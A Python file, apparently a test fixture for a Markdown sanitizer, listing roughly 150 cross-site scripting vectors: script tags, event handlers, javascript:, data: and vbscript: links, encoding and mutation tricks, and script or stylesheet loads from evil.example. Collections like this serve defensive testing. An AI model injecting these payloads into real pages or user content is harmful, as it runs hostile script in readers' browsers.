"""What people write into Markdown who want to run a script at its readers."""

RAW = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script
>alert(1)</script
>
</code></pre><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="https://a.example/x.png" onerror="alert(1)">
<IMG SRC="javascript:alert(1)">
<IMG SRC=`javascript:alert(1)`>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img/src="x"/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="https://a.example" onclick="alert(1)">x</a>
<a href="https://a.example" style="position:fixed;inset:0">x</a>
<p style="background:url(javascript:alert(1))">x</p>
<div onmouseover="alert(1)">x</div>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<td onclick=alert(1)>x</td>
<xss onafterscriptexecute=alert(1)><script>1</script>
<custom-tag onfocus=alert(1) tabindex=1>x</custom-tag>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<title><img src=x onerror=alert(1)></title>
<textarea></textarea><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<frameset onload=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<isindex type=image src=1 onerror=alert(1)>
<a href="https://a.example" target=_blank>x</a>
<portal src="javascript:alert(1)">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\<script>alert(1)\</script>
'''.strip().splitlines()

LINKS = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))
[x](java%73cript:alert(1))
[x](java\script:alert(1))
[x](jav&Tab;ascript:alert(1))
[x](jav&NewLine;ascript:alert(1))
[x](&#1;javascript:alert(1))
[x](javascript://a.example/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](file:///etc/passwd)
[x](blob:https://a.example/1)
[x](filesystem:https://a.example/x)
[x](about:blank)
[x](intent://x#Intent;scheme=javascript;end)
[x](//evil.example/x)
[x](\\\\evil.example\x)
[x](/api/users/me)
[x](http://plain.example)
[x](tel:123)
[x](https://a.example "t" onclick=alert(1))
[x](https://a.example "\" onclick=\"alert(1)")
[x](https://a.example '" onmouseover="alert(1)')
[x](https://a.example/"onclick="alert(1))
[x](<https://a.example/" onclick="alert(1)>)
[<img src=x onerror=alert(1)>](https://a.example)
[x][r]
![x](javascript:alert(1))
![x](data:text/html,<script>alert(1)</script>)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)
![x](http://plain.example/pixel.png)
![x](//evil.example/pixel.png)
![x](mailto:a@a.example)
![x](https://a.example/x.png "\" onerror=\"alert(1)")
!["onerror="alert(1)](https://a.example/x.png)
![<script>alert(1)</script>](https://a.example/x.png)
<javascript:alert(1)>
<JaVaScRiPt:alert(1)>
<data:text/html,x>
<vbscript:msgbox>
<https://a.example/"onclick="alert(1)>
`<script>alert(1)</script>`
""".strip().splitlines()

BLOCKS = [
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> 'x'",
    "[r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "![r]\n\n[r]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "~~~ x onclick=alert(1)\ncode\n~~~",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| [x](javascript:alert(1)) |",
    "| x |\n|:-:|\n| <td onclick=alert(1)> |",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "1. [x](javascript:alert(1))",
    "# <script>alert(1)</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<!--\n\n--><script>alert(1)</script>",
    "<a\nhref='javascript:alert(1)'\n>x</a>",
    "**<img src=x onerror=alert(1)>**",
    "~~<svg onload=alert(1)>~~",
    "\u202e[x](javascript:alert(1))",
    "<\uff53cript>alert(1)</\uff53cript>",
    "\ufeff<script>alert(1)</script>",
]

VECTORS = RAW + LINKS + BLOCKS
